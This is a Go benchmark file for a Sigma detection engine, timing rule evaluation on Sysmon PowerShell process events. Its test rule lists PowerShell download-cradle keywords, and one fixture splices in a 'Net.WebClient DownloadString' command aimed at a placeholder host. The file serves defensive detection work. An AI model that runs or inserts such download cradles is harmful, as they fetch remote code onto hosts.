package sigma

import (
	"os"
	"strings"
	"testing"

	"github.com/mangrove-soc/mangrove/collectors/event"
	"github.com/mangrove-soc/mangrove/detections"
)

// benchEvent is a Sysmon process creation in the evtx-dump shape, with the
// fields Sysmon writes (about 1.3 KB of JSON).
const benchEvent = `{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},
"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon","Guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},
"EventID":1,"Version":5,"Level":4,"Task":1,"Opcode":0,"Keywords":"0x8000000000000000",
"TimeCreated":{"#attributes":{"SystemTime":"2026-03-02T08:51:00.008Z"}},"EventRecordID":93412,"Correlation":null,
"Execution":{"#attributes":{"ProcessID":3208,"ThreadID":1724}},"Channel":"Microsoft-Windows-Sysmon/Operational",
"Computer":"ws-ubnd-017.so-tttt.local","Security":{"#attributes":{"UserID":"S-1-5-18"}}},
"EventData":{"RuleName":"-","UtcTime":"2026-03-02 08:51:00.008","ProcessGuid":"{c1b49677-43f4-5c7a-0000-0010d3dd8044}",
"ProcessId":6228,"Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","FileVersion":"10.0.19041.3996",
"Description":"Windows PowerShell","Product":"Microsoft® Windows® Operating System","Company":"Microsoft Corporation",
"OriginalFileName":"PowerShell.EXE","CommandLine":"\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\Scripts\\inventory.ps1 -Output C:\\ProgramData\\Scripts\\out.csv",
"CurrentDirectory":"C:\\Windows\\system32\\","User":"NT AUTHORITY\\SYSTEM","LogonGuid":"{c1b49677-3fb9-5c09-0000-0020e7030000}",
"LogonId":"0x3e7","TerminalSessionId":0,"IntegrityLevel":"System",
"Hashes":"SHA1=0AE1F9071C5E8FE4A69D3F671937935D242D8A6C,MD5=CCF1D1573F175299ADE01C07791A6541,SHA256=68A15A34C2E28B9B521A240B948634617D72AD619E3950BC6DC769E60A0C3CF2,IMPHASH=E96A73C7BF33A464C510EDE582318BF2",
"ParentProcessGuid":"{c1b49677-6b43-5c78-0000-00107fb77544}","ParentProcessId":1724,
"ParentImage":"C:\\Windows\\System32\\svchost.exe","ParentCommandLine":"C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule","ParentUser":"NT AUTHORITY\\SYSTEM"}}}`

// benchRule is a typical process creation rule: images, an original file
// name, command-line fragments (with windash) and filters.
const benchRule = `title: Suspicious PowerShell download cradle
id: 0b5e3a1c-6f2d-4e8a-9c7b-1d2e3f4a5b6c
logsource:
    category: process_creation
    product: windows
detection:
    selection_img:
        - Image|endswith:
              - '\powershell.exe'
              - '\pwsh.exe'
        - OriginalFileName:
              - 'PowerShell.EXE'
              - 'pwsh.dll'
    selection_cli:
        CommandLine|contains:
            - 'DownloadString'
            - 'DownloadFile'
            - 'Invoke-WebRequest'
            - 'iwr '
            - 'Net.WebClient'
            - 'Start-BitsTransfer'
    selection_flags:
        CommandLine|contains|windash: ' -nop '
    filter_main_parent:
        ParentImage|endswith: '\ccmexec.exe'
    filter_optional_sccm:
        CommandLine|contains: 'C:\Windows\CCM\'
    condition: selection_img and 1 of selection_cli* and not 1 of filter_*
level: high
tags: [attack.execution, attack.t1059.001]
`

func benchDecode(b *testing.B, js string) *event.Event {
	b.Helper()
	var d event.Decoder
	ev := &event.Event{}
	if err := d.Decode([]byte(js), ev); err != nil {
		b.Fatal(err)
	}
	return ev
}

// BenchmarkEval measures Rule.Eval: ns/op is the time for one event through
// the rules. Each iteration takes the next of two equal but distinct events,
// so no iteration profits from lookups cached for the previous one; within
// an iteration the rules share them, as they do in the engine. Cases: one
// typical process creation rule (no match, the common case; a match; an
// event of another log source), and 100 SigmaHQ Windows rules over one
// event, when the dataset is present.
func BenchmarkEval(b *testing.B) {
	r, err := compileRule(b, benchRule)
	if err != nil {
		b.Fatal(err)
	}
	pair := func(js string) [2]*event.Event { return [2]*event.Event{benchDecode(b, js), benchDecode(b, js)} }
	ev := pair(benchEvent)
	hit := pair(strings.Replace(benchEvent, `-File C:\\ProgramData`, `-nop (New-Object Net.WebClient).DownloadString('http://x') C:\\ProgramData`, 1))
	other := pair(strings.Replace(benchEvent, `"EventID":1,`, `"EventID":13,`, 1))
	ctx := b.Context()
	emit := func(detections.Finding) {}
	run := func(name string, rules []detections.Rule, evs [2]*event.Event) {
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			i := 0
			for b.Loop() {
				ev := evs[i&1]
				i++
				for _, r := range rules {
					if err := r.Eval(ctx, ev, emit); err != nil {
						b.Fatal(err)
					}
				}
			}
			b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N)/float64(len(rules)), "ns/rule")
		})
	}
	run("process_creation/miss", []detections.Rule{r}, ev)
	run("process_creation/match", []detections.Rule{r}, hit)
	run("process_creation/other_logsource", []detections.Rule{r}, other)

	proc, mixed := benchRuleSets(b)
	if proc == nil {
		b.Log("SigmaHQ dataset absent: skipping the 100-rule benchmarks")
		return
	}
	run("sigmahq_100_process_creation", proc, ev)
	run("sigmahq_100_windows_mixed", mixed, ev)
}

// benchRuleSets returns the first 100 SigmaHQ Windows process creation
// rules, and 100 Windows rules spread over all categories.
func benchRuleSets(b *testing.B) (proc, mixed []detections.Rule) {
	root := os.Getenv("MANGROVE_DATASETS")
	if root == "" {
		root = "../../../shared/datasets"
	}
	if !dirExists(root + "/sigma/rules/windows") {
		return nil, nil
	}
	files := sigmaHQFiles(b)
	var windows []detections.Rule
	for _, f := range files {
		if !strings.Contains(f, "/windows/") {
			continue
		}
		data, err := os.ReadFile(f)
		if err != nil {
			b.Fatal(err)
		}
		rules, _ := Load(f, data)
		for _, r := range rules {
			windows = append(windows, r)
			if len(proc) < 100 && strings.Contains(f, "/process_creation/") {
				proc = append(proc, r)
			}
		}
	}
	step := max(len(windows)/100, 1)
	for i := 0; i < len(windows) && len(mixed) < 100; i += step {
		mixed = append(mixed, windows[i])
	}
	return proc, mixed
}
